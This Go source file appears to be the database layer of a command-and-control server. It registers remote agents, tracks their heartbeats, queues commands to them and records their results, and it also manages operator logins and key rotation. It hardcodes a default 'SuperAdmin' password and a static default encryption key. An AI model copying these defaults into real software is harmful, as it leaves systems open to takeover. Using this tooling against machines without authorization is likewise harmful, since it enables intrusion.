package main

import (
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"strconv"
	"strings"
	"time"

	"github.com/google/uuid"
	"golang.org/x/crypto/bcrypt"
	"gorm.io/gorm"
)

// Setting keys. Rotation overwrites these in place; nothing ever appends a
// second current key.
const (
	settingMarkOfflineDelay     = "wraithMarkOfflineDelay"
	settingInitialCryptKey      = "wraithInitialCryptKey"
	settingSwitchCryptKey       = "wraithSwitchCryptKey"
	settingAPIFingerprint       = "APIFingerprint"
	settingDefaultCommands      = "wraithDefaultCommands"
	settingAPIPrefix            = "APIPrefix"
	settingIPBlacklist          = "requestIPBlacklist"
	settingSessionExpiryDelay   = "managementSessionExpiryDelay"
	settingFirstLayerKey        = "managementFirstLayerEncryptionKey"
	settingBruteForceMax        = "managementBruteForceMaxAttempts"
	settingBruteForceTimeoutSec = "managementBruteForceTimeoutSeconds"
)

var (
	errSettingUnknown     = errors.New("store: unknown setting key")
	errWraithUnknown      = errors.New("store: unknown wraith identifier")
	errSessionUnknown     = errors.New("store: unknown session identifier")
	errUserUnknown        = errors.New("store: unknown user")
	errUserExists         = errors.New("store: user already exists")
	errCommandUnknown     = errors.New("store: unknown command identifier")
	errInvalidCredentials = errors.New("store: invalid credentials")
	errAccountLocked      = errors.New("store: account temporarily locked")
	errRotationBlocked    = errors.New("store: rotation refused while clients are active")
)

const (
	txAcquireAttempts = 50
	txAcquireBackoff  = 20 * time.Millisecond
)

// Store wraps all persistent state behind the transactional mutual exclusion
// the protocol relies on: one writer at a time, acquired with bounded retry.
type Store struct {
	db *gorm.DB
}

func NewStore(db *gorm.DB) *Store {
	return &Store{db: db}
}

// Migrate creates the schema.
func (s *Store) Migrate() error {
	return s.db.AutoMigrate(&Setting{}, &Wraith{}, &Session{}, &User{}, &Command{})
}

// WithTx runs fn inside a transaction, retrying acquisition a bounded number
// of times when another writer holds the database. Lock contention is never
// surfaced to callers as anything but the final error after the retry budget
// is spent.
func (s *Store) WithTx(fn func(tx *Store) error) error {
	var err error
	for attempt := 0; attempt < txAcquireAttempts; attempt++ {
		err = s.db.Transaction(func(tx *gorm.DB) error {
			return fn(&Store{db: tx})
		})
		if err == nil || !isLockError(err) {
			return err
		}
		time.Sleep(txAcquireBackoff)
	}
	return err
}

func isLockError(err error) bool {
	if err == nil {
		return false
	}
	msg := err.Error()
	return strings.Contains(msg, "database is locked") || strings.Contains(msg, "database table is locked")
}

// SETTINGS

// Seed populates the settings table on first boot. Existing keys are left
// untouched so repeated boots never clobber a rotated key.
func (s *Store) Seed() error {
	defaults := []Setting{
		{Key: settingMarkOfflineDelay, Value: "16"},
		{Key: settingInitialCryptKey, Value: "QWERTYUIOPASDFGHJKLZXCVBNM"},
		{Key: settingSwitchCryptKey, Value: "QWERTYUIOPASDFGHJKLZXCVBNM"},
		{Key: settingAPIFingerprint, Value: randomKeyHex(8)},
		{Key: settingDefaultCommands, Value: "[]"},
		{Key: settingAPIPrefix, Value: "W_"},
		{Key: settingIPBlacklist, Value: "[]"},
		{Key: settingSessionExpiryDelay, Value: "12"},
		{Key: settingFirstLayerKey, Value: randomKeyHex(25)},
		{Key: settingBruteForceMax, Value: "3"},
		{Key: settingBruteForceTimeoutSec, Value: "300"},
	}
	for _, def := range defaults {
		var existing Setting
		err := s.db.First(&existing, "key = ?", def.Key).Error
		if errors.Is(err, gorm.ErrRecordNotFound) {
			if err := s.db.Create(&def).Error; err != nil {
				return err
			}
			continue
		}
		if err != nil {
			return err
		}
	}
	return s.EnsureBootstrapUser()
}

// Setting returns the value for key.
func (s *Store) Setting(key string) (string, error) {
	var row Setting
	if err := s.db.First(&row, "key = ?", key).Error; err != nil {
		if errors.Is(err, gorm.ErrRecordNotFound) {
			return "", errSettingUnknown
		}
		return "", err
	}
	return row.Value, nil
}

// SetSetting overwrites the value of an existing key. New keys cannot be
// introduced this way; the settings schema is fixed at seed time.
func (s *Store) SetSetting(key, value string) error {
	res := s.db.Model(&Setting{}).Where("key = ?", key).Update("value", value)
	if res.Error != nil {
		return res.Error
	}
	if res.RowsAffected == 0 {
		return errSettingUnknown
	}
	return nil
}

// AllSettings returns every setting as a map.
func (s *Store) AllSettings() (map[string]string, error) {
	var rows []Setting
	if err := s.db.Find(&rows).Error; err != nil {
		return nil, err
	}
	out := make(map[string]string, len(rows))
	for _, row := range rows {
		out[row.Key] = row.Value
	}
	return out, nil
}

// settingSeconds reads a delay setting, falling back when unparseable.
func (s *Store) settingSeconds(key string, fallback int) time.Duration {
	raw, err := s.Setting(key)
	if err != nil {
		return time.Duration(fallback) * time.Second
	}
	n, err := strconv.Atoi(raw)
	if err != nil || n <= 0 {
		return time.Duration(fallback) * time.Second
	}
	return time.Duration(n) * time.Second
}

// IPBlocked reports whether ip is on the request block-list.
func (s *Store) IPBlocked(ip string) bool {
	raw, err := s.Setting(settingIPBlacklist)
	if err != nil {
		return false
	}
	var list []string
	if err := json.Unmarshal([]byte(raw), &list); err != nil {
		return false
	}
	for _, blocked := range list {
		if blocked == ip {
			return true
		}
	}
	return false
}

// WRAITHS

// AddWraith registers a new agent and returns its assigned ID. Duplicate
// fingerprints are allowed; recognising repeat hosts is observational.
func (s *Store) AddWraith(fingerprint, hostProps, wraithProps string, now time.Time) (string, error) {
	w := Wraith{
		AssignedID:       uuid.NewString(),
		Fingerprint:      fingerprint,
		HostProperties:   hostProps,
		WraithProperties: wraithProps,
		LastHeartbeat:    now,
	}
	if err := s.db.Create(&w).Error; err != nil {
		return "", err
	}
	return w.AssignedID, nil
}

func (s *Store) GetWraith(assignedID string) (*Wraith, error) {
	var w Wraith
	if err := s.db.First(&w, "assigned_id = ?", assignedID).Error; err != nil {
		if errors.Is(err, gorm.ErrRecordNotFound) {
			return nil, errWraithUnknown
		}
		return nil, err
	}
	return &w, nil
}

// WraithHeartbeat refreshes an agent's liveness timestamp.
func (s *Store) WraithHeartbeat(assignedID string, now time.Time) error {
	res := s.db.Model(&Wraith{}).Where("assigned_id = ?", assignedID).Update("last_heartbeat", now)
	if res.Error != nil {
		return res.Error
	}
	if res.RowsAffected == 0 {
		return errWraithUnknown
	}
	return nil
}

// ExpireWraiths deletes agents whose last heartbeat is older than the
// mark-offline delay.
func (s *Store) ExpireWraiths(now time.Time) error {
	cutoff := now.Add(-s.settingSeconds(settingMarkOfflineDelay, 16))
	return s.db.Where("last_heartbeat < ?", cutoff).Delete(&Wraith{}).Error
}

func (s *Store) ListWraiths() ([]Wraith, error) {
	var ws []Wraith
	if err := s.db.Order("created_at").Find(&ws).Error; err != nil {
		return nil, err
	}
	return ws, nil
}

func (s *Store) CountWraiths() (int64, error) {
	var n int64
	err := s.db.Model(&Wraith{}).Count(&n).Error
	return n, err
}

// SESSIONS

// CreateSession mints a session with a fresh random token. The token is
// returned exactly once, to be delivered over the credential-exchange path.
func (s *Store) CreateSession(username, creatorIP string, now time.Time) (*Session, error) {
	sess := Session{
		SessionID:     uuid.NewString(),
		Username:      username,
		CreatorIP:     creatorIP,
		SessionToken:  randomKeyHex(25),
		LastHeartbeat: now,
	}
	if err := s.db.Create(&sess).Error; err != nil {
		return nil, err
	}
	return &sess, nil
}

func (s *Store) GetSession(sessionID string) (*Session, error) {
	var sess Session
	if err := s.db.First(&sess, "session_id = ?", sessionID).Error; err != nil {
		if errors.Is(err, gorm.ErrRecordNotFound) {
			return nil, errSessionUnknown
		}
		return nil, err
	}
	return &sess, nil
}

func (s *Store) SessionHeartbeat(sessionID string, now time.Time) error {
	res := s.db.Model(&Session{}).Where("session_id = ?", sessionID).Update("last_heartbeat", now)
	if res.Error != nil {
		return res.Error
	}
	if res.RowsAffected == 0 {
		return errSessionUnknown
	}
	return nil
}

// ExpireSessions deletes sessions past the expiry delay. Session IDs are
// never recycled: a swept ID stays invalid forever.
func (s *Store) ExpireSessions(now time.Time) error {
	cutoff := now.Add(-s.settingSeconds(settingSessionExpiryDelay, 12))
	return s.db.Where("last_heartbeat < ?", cutoff).Delete(&Session{}).Error
}

func (s *Store) DeleteSession(sessionID string) error {
	return s.db.Where("session_id = ?", sessionID).Delete(&Session{}).Error
}

func (s *Store) CountSessions() (int64, error) {
	var n int64
	err := s.db.Model(&Session{}).Count(&n).Error
	return n, err
}

// USERS

// EnsureBootstrapUser guarantees the store never has zero users: whenever the
// users table is empty a SuperAdmin account is created.
func (s *Store) EnsureBootstrapUser() error {
	var n int64
	if err := s.db.Model(&User{}).Count(&n).Error; err != nil {
		return err
	}
	if n > 0 {
		return nil
	}
	hash, err := bcrypt.GenerateFromPassword([]byte("SuperAdminPass"), bcrypt.DefaultCost)
	if err != nil {
		return err
	}
	return s.db.Create(&User{
		UserName:     "SuperAdmin",
		PasswordHash: string(hash),
		Privileges:   PrivilegeSuperAdmin,
	}).Error
}

func (s *Store) GetUser(username string) (*User, error) {
	var u User
	if err := s.db.First(&u, "user_name = ?", username).Error; err != nil {
		if errors.Is(err, gorm.ErrRecordNotFound) {
			return nil, errUserUnknown
		}
		return nil, err
	}
	return &u, nil
}

func (s *Store) ListUsers() ([]User, error) {
	var us []User
	if err := s.db.Order("user_name").Find(&us).Error; err != nil {
		return nil, err
	}
	return us, nil
}

// VerifyUser checks a password against the stored hash, enforcing the
// failed-login lockout: after the configured number of consecutive failures
// inside the lockout window, every attempt is rejected until the window
// elapses, correct password or not.
func (s *Store) VerifyUser(username, password string, now time.Time) error {
	u, err := s.GetUser(username)
	if err != nil {
		if errors.Is(err, errUserUnknown) {
			return errInvalidCredentials
		}
		return err
	}

	maxAttempts := s.settingInt(settingBruteForceMax, 3)
	window := s.settingSeconds(settingBruteForceTimeoutSec, 300)

	if u.FailedLogins >= maxAttempts && u.LockoutStart != nil {
		if now.Sub(*u.LockoutStart) < window {
			return errAccountLocked
		}
		// Window elapsed; clear the counter and fall through.
		u.FailedLogins = 0
		u.LockoutStart = nil
	}

	if bcrypt.CompareHashAndPassword([]byte(u.PasswordHash), []byte(password)) != nil {
		failed := u.FailedLogins + 1
		start := u.LockoutStart
		if start == nil || now.Sub(*start) >= window {
			t := now
			start = &t
			failed = 1
		}
		if err := s.db.Model(&User{}).Where("user_name = ?", username).Updates(map[string]interface{}{
			"failed_logins": failed,
			"lockout_start": start,
		}).Error; err != nil {
			return err
		}
		return errInvalidCredentials
	}

	return s.db.Model(&User{}).Where("user_name = ?", username).Updates(map[string]interface{}{
		"failed_logins": 0,
		"lockout_start": nil,
	}).Error
}

func (s *Store) AddUser(username, password string, privileges int) error {
	if _, err := s.GetUser(username); err == nil {
		return errUserExists
	}
	hash, err := bcrypt.GenerateFromPassword([]byte(password), bcrypt.DefaultCost)
	if err != nil {
		return err
	}
	return s.db.Create(&User{
		UserName:     username,
		PasswordHash: string(hash),
		Privileges:   privileges,
	}).Error
}

func (s *Store) RemoveUser(username string) error {
	res := s.db.Where("user_name = ?", username).Delete(&User{})
	if res.Error != nil {
		return res.Error
	}
	if res.RowsAffected == 0 {
		return errUserUnknown
	}
	return nil
}

func (s *Store) SetUserPrivilege(username string, privileges int) error {
	res := s.db.Model(&User{}).Where("user_name = ?", username).Update("privileges", privileges)
	if res.Error != nil {
		return res.Error
	}
	if res.RowsAffected == 0 {
		return errUserUnknown
	}
	return nil
}

func (s *Store) settingInt(key string, fallback int) int {
	raw, err := s.Setting(key)
	if err != nil {
		return fallback
	}
	n, err := strconv.Atoi(raw)
	if err != nil || n <= 0 {
		return fallback
	}
	return n
}

// COMMANDS

// EnqueueCommand queues a command for the target agents. Target existence is
// not validated eagerly: a target that disconnects before pickup simply never
// receives it and the command expires with its last target.
func (s *Store) EnqueueCommand(name string, params, targets []string, now time.Time) (string, error) {
	paramsJSON, err := json.Marshal(params)
	if err != nil {
		return "", err
	}
	targetsJSON, err := json.Marshal(targets)
	if err != nil {
		return "", err
	}
	cmd := Command{
		CommandID: uuid.NewString(),
		Name:      name,
		Params:    string(paramsJSON),
		Targets:   string(targetsJSON),
		Responses: "{}",
		IssuedAt:  now,
	}
	if err := s.db.Create(&cmd).Error; err != nil {
		return "", err
	}
	return cmd.CommandID, nil
}

// CommandsForWraith returns the queued commands targeted at the agent that it
// has not responded to yet.
func (s *Store) CommandsForWraith(assignedID string) ([]Command, error) {
	var cmds []Command
	if err := s.db.Order("issued_at").Find(&cmds).Error; err != nil {
		return nil, err
	}
	var out []Command
	for _, cmd := range cmds {
		targets, responses, err := cmd.decode()
		if err != nil {
			continue
		}
		if _, responded := responses[assignedID]; responded {
			continue
		}
		for _, target := range targets {
			if target == assignedID {
				out = append(out, cmd)
				break
			}
		}
	}
	return out, nil
}

// AppendCommandResponse records one agent's result. Once every target has
// responded the command is removed from the queue.
func (s *Store) AppendCommandResponse(commandID, assignedID, result string) error {
	cmd, err := s.GetCommand(commandID)
	if err != nil {
		return err
	}
	targets, responses, err := cmd.decode()
	if err != nil {
		return err
	}
	responses[assignedID] = result

	complete := true
	for _, target := range targets {
		if _, ok := responses[target]; !ok {
			complete = false
			break
		}
	}
	if complete {
		return s.db.Where("command_id = ?", commandID).Delete(&Command{}).Error
	}

	respJSON, err := json.Marshal(responses)
	if err != nil {
		return err
	}
	return s.db.Model(&Command{}).Where("command_id = ?", commandID).
		Update("responses", string(respJSON)).Error
}

func (s *Store) GetCommand(commandID string) (*Command, error) {
	var cmd Command
	if err := s.db.First(&cmd, "command_id = ?", commandID).Error; err != nil {
		if errors.Is(err, gorm.ErrRecordNotFound) {
			return nil, errCommandUnknown
		}
		return nil, err
	}
	return &cmd, nil
}

func (s *Store) ListCommands() ([]Command, error) {
	var cmds []Command
	if err := s.db.Order("issued_at").Find(&cmds).Error; err != nil {
		return nil, err
	}
	return cmds, nil
}

// CancelCommand removes a command regardless of outstanding targets.
func (s *Store) CancelCommand(commandID string) error {
	res := s.db.Where("command_id = ?", commandID).Delete(&Command{})
	if res.Error != nil {
		return res.Error
	}
	if res.RowsAffected == 0 {
		return errCommandUnknown
	}
	return nil
}

func (c *Command) decode() (targets []string, responses map[string]string, err error) {
	if err = json.Unmarshal([]byte(c.Targets), &targets); err != nil {
		return nil, nil, err
	}
	responses = make(map[string]string)
	if c.Responses != "" {
		if err = json.Unmarshal([]byte(c.Responses), &responses); err != nil {
			return nil, nil, err
		}
	}
	return targets, responses, nil
}

// KEY ROTATION

// RotateSwitchKey replaces the agent switch key. Refused while any agent is
// registered unless forced, so connected agents are not orphaned. The
// emptiness check and the write are two statements inside the caller's
// transaction; see the concurrency note in DESIGN.md.
func (s *Store) RotateSwitchKey(force bool) (string, error) {
	if !force {
		n, err := s.CountWraiths()
		if err != nil {
			return "", err
		}
		if n > 0 {
			return "", errRotationBlocked
		}
	}
	key := randomKeyHex(25)
	if err := s.SetSetting(settingSwitchCryptKey, key); err != nil {
		return "", err
	}
	return key, nil
}

// RotateFirstLayerKey replaces the manager first-layer key. Refused while any
// session is active unless forced, so in-flight manager traffic is not
// invalidated.
func (s *Store) RotateFirstLayerKey(force bool) (string, error) {
	if !force {
		n, err := s.CountSessions()
		if err != nil {
			return "", err
		}
		if n > 0 {
			return "", errRotationBlocked
		}
	}
	key := randomKeyHex(25)
	if err := s.SetSetting(settingFirstLayerKey, key); err != nil {
		return "", err
	}
	return key, nil
}

func randomKeyHex(nBytes int) string {
	b := make([]byte, nBytes)
	if _, err := rand.Read(b); err != nil {
		// rand.Read failing means the platform CSPRNG is gone; there is no
		// reasonable fallback for key material.
		panic(err)
	}
	return hex.EncodeToString(b)
}
